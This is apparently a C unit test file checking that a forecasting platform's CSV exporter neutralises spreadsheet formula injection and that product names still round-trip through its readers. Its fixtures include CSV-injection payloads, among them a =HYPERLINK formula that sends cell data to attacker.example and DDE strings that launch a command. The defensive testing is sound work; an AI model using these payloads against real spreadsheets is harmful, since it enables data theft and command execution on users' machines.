/* csvout: cells a spreadsheet would run as formulas are neutralised in every
 * CSV written for people (security review 2026-12, finding 6: a product named
 * =HYPERLINK(...) reached store managers' forecast CSV verbatim), numbers stay
 * numbers, and the platform's own readers of canonical.csv (train_data, used
 * by the trainer and the forecast generator, fast path and general path; the
 * sales parser) read back exactly the names that were uploaded. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lib/csv.h"
#include "lib/csvout.h"
#include "datasets/ingest.h"
#include "datasets/sales.h"
#include "trainer/train_data.h"
#include "lib/util.h"

/* The values a hostile contributor would try, and harmless look-alikes. */
static const char *const HOSTILE[] = {
    "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+1",
    "-Decaf",
    "'=already quoted",
    "''@twice",
    "-",
    "+",
    "@",
};
static const char *const HARMLESS[] = {"Caffe Latte", "'Nduja Roll", "x=1",  "Cafe, grande",
                                       "say \"hi\"",  "-2",          "+1.5", "-3e4",
                                       ".5",          "1e5",         ""};
#define N(a) (sizeof a / sizeof a[0])

static char *text_cell(const char *s)
{
    buf_t b;
    buf_init(&b, 0);
    assert_int_equal(csvout_text(&b, s, strlen(s)), RST_OK);
    return b.data ? b.data : xstrdup("");
}

static void test_formula_cells_are_guarded_and_quoted(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"=1+1", "\"'=1+1\""},
        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(1+1)", "\"'@SUM(1+1)\""},
        {"\tx", "\"'\tx\""},
        {"\rx", "\"'\rx\""},
        {"=HYPERLINK(\"http://a/\",\"b\")", "\"'=HYPERLINK(\"\"http://a/\"\",\"\"b\"\")\""},
        {"'=x", "\"''=x\""}, /* reversible: an apostrophe of its own stays */
        {"-", "\"'-\""},
        {"-e5", "\"'-e5\""},
        /* numbers are numbers, not formulas */
        {"-2", "-2"},
        {"-1.25", "-1.25"},
        {"+7", "+7"},
        {"-3e+4", "-3e+4"},
        {"-.5", "-.5"},
        /* ordinary text, quoted only when CSV needs it */
        {"Caffe Latte", "Caffe Latte"},
        {"'Nduja", "'Nduja"},
        {"x=1", "x=1"},
        {"a,b", "\"a,b\""},
        {" =x", "\" =x\""},
        {"", ""},
    };
    for (size_t i = 0; i < N(cases); i++) {
        char *got = text_cell(cases[i].in);
        if (strcmp(got, cases[i].out))
            fail_msg("'%s': wrote '%s', expected '%s'", cases[i].in, got, cases[i].out);
        free(got);
    }
    assert_true(csvout_needs_guard("=", 1));
    assert_false(csvout_needs_guard("'", 1));
    assert_false(csvout_needs_guard("", 0));
    assert_false(csvout_needs_guard("-2", 2));
    assert_true(csvout_needs_guard("'-2", 3)); /* text that only looks like a number */
}

/* What the parser of any spreadsheet would see: no cell we wrote starts a
 * formula, and csvout_unguard gives each value back. */
typedef struct {
    const char *const *want;
    size_t n, seen;
} roundtrip;

static int check_record(void *arg, const csv_record *rec)
{
    roundtrip *rt = arg;
    assert_int_equal(rec->count, rt->n);
    for (size_t i = 0; i < rec->count; i++) {
        const char *v = rec->fields[i].data;
        size_t len = rec->fields[i].len;
        if (len && strchr("=+-@\t\r", v[0]) && csvout_needs_guard(v, len))
            fail_msg("cell %zu reads as a formula: '%s'", i, v);
        size_t skip = csvout_unguard(v, len);
        if (len - skip != strlen(rt->want[i]) || memcmp(v + skip, rt->want[i], len - skip))
            fail_msg("cell %zu: read back '%.*s', wrote '%s'", i, (int)(len - skip), v + skip,
                     rt->want[i]);
    }
    rt->seen++;
    return 0;
}

static void test_every_cell_reads_back(void **state)
{
    (void)state;
    const char *all[N(HOSTILE) + N(HARMLESS)];
    size_t n = 0;
    for (size_t i = 0; i < N(HOSTILE); i++)
        all[n++] = HOSTILE[i];
    for (size_t i = 0; i < N(HARMLESS); i++)
        all[n++] = HARMLESS[i];
    buf_t line;
    buf_init(&line, 0);
    for (size_t i = 0; i < n; i++) {
        if (i)
            buf_puts(&line, ",");
        csvout_text(&line, all[i], strlen(all[i]));
    }
    buf_puts(&line, "\n");
    roundtrip rt = {all, n, 0};
    csv_parser *p = csv_new(NULL, check_record, &rt);
    assert_int_equal(csv_feed(p, line.data, line.len), RST_OK);
    assert_int_equal(csv_finish(p), RST_OK);
    assert_int_equal(rt.seen, 1);
    csv_free(p);
    buf_free(&line);
}

/* ---- canonical.csv, end to end --------------------------------------------------- */

typedef struct {
    buf_t canonical, quarantine;
} sinks;

static int w_canonical(void *arg, const char *data, size_t len)
{
    return buf_append(&((sinks *)arg)->canonical, data, len);
}

static int w_quarantine(void *arg, const char *data, size_t len)
{
    return buf_append(&((sinks *)arg)->quarantine, data, len);
}

static int has_name(char **names, size_t n, const char *want)
{
    for (size_t i = 0; i < n; i++)
        if (!strcmp(names[i], want))
            return 1;
    return 0;
}

/* Every hostile name reaches canonical.csv guarded and comes back out of
 * train_data (file: the mapped fast path first; buffer: the general path) and
 * out of the sales parser exactly as uploaded. */
static void test_canonical_round_trip_through_our_readers(void **state)
{
    (void)state;
    buf_t up;
    buf_init(&up, 0);
    size_t raw_rows = 0;
    buf_puts(&up, "Store ID,Date,Country,City,Product Category,Product,Quantity Sold,Price\n");
    for (size_t i = 0; i < N(HOSTILE); i++) {
        /* once as our own exports write it (guarded), once as a spreadsheet saves it */
        const char *city = i % 2 ? HOSTILE[(i + 3) % N(HOSTILE)] : "Seattle";
        buf_puts(&up, "S1,2024-01-01,USA,");
        csvout_text(&up, city, strlen(city));
        buf_puts(&up, ",Coffee,");
        csvout_text(&up, HOSTILE[i], strlen(HOSTILE[i]));
        buf_printf(&up, ",%zu,1.00\n", i + 1);
        if (HOSTILE[i][0] == '\'')
            continue; /* unguarded, "'=x" in an upload means the text =x (below) */
        buf_printf(&up, "%s,2024-01-02,USA,Seattle,Coffee,", i % 3 ? "=S9" : "@S8");
        sales_write_field(&up, HOSTILE[i], strlen(HOSTILE[i]));
        buf_puts(&up, ",2,1.50\n");
        raw_rows++;
    }
    buf_puts(&up, "S4,2024-01-03,USA,Seattle,Coffee,'+from a spreadsheet,1,1.00\n");
    for (size_t i = 0; i < N(HARMLESS); i++) {
        if (!*HARMLESS[i])
            continue; /* no product */
        buf_puts(&up, "S2,2024-01-01,Canada,Toronto,Pastry,");
        sales_write_field(&up, HARMLESS[i], strlen(HARMLESS[i]));
        buf_puts(&up, ",1,2.00\n");
    }
    buf_puts(&up, "S3,2024-01-01,USA,=EVIL(),Coffee,Latte,-1,1.00\n"); /* bad row */

    sinks s;
    buf_init(&s.canonical, 0);
    buf_init(&s.quarantine, 0);
    ingest_options o = {.on_error_quarantine = 1};
    ingest *g = ingest_new(&o, w_canonical, w_quarantine, &s);
    assert_int_equal(ingest_feed(g, up.data, up.len), RST_OK);
    assert_int_equal(ingest_finish(g), RST_OK);
    assert_false(ingest_rejected(g));
    json_t *res = ingest_result_json(g);
    assert_int_equal(json_integer_value(json_object_get(res, "rows_rejected")), 1);
    json_decref(res);
    ingest_free(g);

    /* the files people download: no cell starts a formula */
    assert_non_null(strstr(s.canonical.data, ",\"'=HYPERLINK(\"\"http://attacker.example/"));
    assert_non_null(strstr(s.canonical.data, "\"'@S8\""));
    assert_null(strstr(s.canonical.data, ",=HYPERLINK"));
    assert_null(strstr(s.canonical.data, "\n=S9"));
    assert_non_null(strstr(s.quarantine.data, "\"'=EVIL()\""));
    assert_null(strstr(s.quarantine.data, "'-1")); /* -1 is a number, left as it is */
    assert_non_null(strstr(s.quarantine.data, ",-1,"));

    /* and our readers get the names back */
    char path[] = "/tmp/roastery-csvout-XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, s.canonical.data, s.canonical.len), (ssize_t)s.canonical.len);
    close(fd);
    char err[256] = "";
    train_data *from_file = NULL, *from_buf = NULL;
    assert_int_equal(train_data_load(path, NULL, &from_file, err, sizeof err), RST_OK);
    assert_int_equal(
        train_data_load_buffer(s.canonical.data, s.canonical.len, &from_buf, err, sizeof err),
        RST_OK);
    unlink(path);
    train_data *both[] = {from_file, from_buf};
    for (int k = 0; k < 2; k++) {
        train_data *d = both[k];
        for (size_t i = 0; i < N(HOSTILE); i++) {
            if (!has_name(d->product_names, d->nproducts, HOSTILE[i]))
                fail_msg("%s: product '%s' did not come back", k ? "buffer" : "file", HOSTILE[i]);
            if (i % 2 && !has_name(d->city_names, d->ncities, HOSTILE[(i + 3) % N(HOSTILE)]))
                fail_msg("city '%s' did not come back", HOSTILE[(i + 3) % N(HOSTILE)]);
        }
        for (size_t i = 0; i < N(HARMLESS); i++)
            if (*HARMLESS[i] && !has_name(d->product_names, d->nproducts, HARMLESS[i]))
                fail_msg("product '%s' did not come back", HARMLESS[i]);
        assert_true(has_name(d->store_ids, d->nstores, "=S9"));
        assert_true(has_name(d->store_ids, d->nstores, "@S8"));
        assert_true(has_name(d->product_names, d->nproducts, "+from a spreadsheet"));
        assert_int_equal(d->rows, N(HOSTILE) + raw_rows + 1 + N(HARMLESS) - 1);
    }
    train_data_free(from_file);
    train_data_free(from_buf);

    /* a canonical file uploaded again (a new version made from a download)
     * yields the very same canonical file */
    sinks again;
    buf_init(&again.canonical, 0);
    buf_init(&again.quarantine, 0);
    g = ingest_new(&o, w_canonical, w_quarantine, &again);
    assert_int_equal(ingest_feed(g, s.canonical.data, s.canonical.len), RST_OK);
    assert_int_equal(ingest_finish(g), RST_OK);
    assert_false(ingest_rejected(g));
    ingest_free(g);
    assert_int_equal(again.canonical.len, s.canonical.len);
    assert_memory_equal(again.canonical.data, s.canonical.data, s.canonical.len);
    buf_free(&again.canonical);
    buf_free(&again.quarantine);
    buf_free(&s.canonical);
    buf_free(&s.quarantine);
    buf_free(&up);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_formula_cells_are_guarded_and_quoted),
        cmocka_unit_test(test_every_cell_reads_back),
        cmocka_unit_test(test_canonical_round_trip_through_our_readers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
